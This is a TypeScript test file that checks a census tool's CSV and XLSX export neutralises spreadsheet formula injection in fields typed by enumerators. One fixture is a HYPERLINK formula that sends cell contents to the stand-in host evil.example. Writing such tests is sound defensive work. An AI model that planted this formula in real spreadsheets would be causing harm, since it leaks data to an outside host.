import fs from 'node:fs';
import os from 'node:os';
import path from 'node:path';
import ExcelJS from 'exceljs';
import fc from 'fast-check';
import { afterEach, beforeEach, describe, expect, it } from 'vitest';
import { exportUnits } from '@server/admin/export';
import type { EntityState } from '@server/store/types';
import { csvField, inertCell } from '@shared/files/export-cells';

// `census admin export-units` writes what enumerators typed: a unit name or an answer that a
// spreadsheet would run as a formula must come out inert in both the CSV and the XLSX, and a
// negative number must stay a number.

const HYPERLINK = '=HYPERLINK("http://evil.example/?d="&A1,"点此查看")';

const units: EntityState[] = [
  {
    entity: 'unit',
    entityId: 'unit-00000001',
    scopeKey: '640502100201001',
    fields: {
      $create: { areaCode: '640502100201001', kind: 'legal', source: 'field', fields: {} },
      name: HYPERLINK,
      address: '@SUM(1)',
      '611.totalProfit': -25,
      '611.phone': '-0951',
      '611.contact': '-cmd',
      '611.note': '\t=1+1',
    },
  },
];
const store = { entityStates: () => Promise.resolve(units) };

let dir: string;
beforeEach(() => {
  dir = fs.mkdtempSync(path.join(os.tmpdir(), 'census-export-'));
});
afterEach(() => fs.rmSync(dir, { recursive: true, force: true }));

describe('export-units neutralises formulas', () => {
  it('CSV: formula text gets an apostrophe, numbers stay as they are', async () => {
    const out = path.join(dir, 'units.csv');
    await exportUnits(store, out);
    const [header = '', row = ''] = fs.readFileSync(out, 'utf8').replace(/^\uFEFF/, '').trim().split('\r\n');
    const columns = header.split(',');
    const at = (name: string) => row.split(/,(?=(?:[^"]*"[^"]*")*[^"]*$)/)[columns.indexOf(name)];
    expect(at('name')).toBe(`"'${HYPERLINK.replaceAll('"', '""')}"`);
    expect(at('address')).toBe("'@SUM(1)");
    expect(at('611.totalProfit')).toBe('-25');
    // Text that is just a number cannot run anything: left as it is.
    expect(at('611.phone')).toBe('-0951');
    expect(at('611.contact')).toBe("'-cmd");
    expect(at('611.note')).toBe("'\t=1+1");
  });

  it('XLSX: no cell is a formula or starts like one; a loss is a negative number', async () => {
    const out = path.join(dir, 'units.xlsx');
    await exportUnits(store, out);
    const book = new ExcelJS.Workbook();
    await book.xlsx.readFile(out);
    const sheet = book.getWorksheet('units');
    const header = (sheet?.getRow(1).values as unknown[]).slice(1);
    const cell = (name: string) => sheet?.getRow(2).getCell(header.indexOf(name) + 1).value;
    expect(cell('name')).toBe(`'${HYPERLINK}`);
    expect(cell('address')).toBe("'@SUM(1)");
    expect(cell('611.totalProfit')).toBe(-25);
  });
});

describe('inertCell', () => {
  it('leaves numbers and number-like text alone, and makes any other formula start inert, losing nothing', () => {
    fc.assert(
      fc.property(fc.oneof(fc.string(), fc.double({ noNaN: true }), fc.integer().map(String)), (value) => {
        const out = inertCell(value);
        const isNumberLike = typeof value === 'number' || /^[+-]?(\d+(\.\d*)?|\.\d+)([eE][+-]?\d+)?$/.test(value);
        if (!isNumberLike && /^[=+\-@\t\r]/.test(value)) expect(out).toBe(`'${value}`);
        else expect(out).toBe(value);
      }),
    );
    expect(csvField('a,"b"')).toBe('"a,""b"""');
    expect(csvField(-3)).toBe('-3');
  });
});
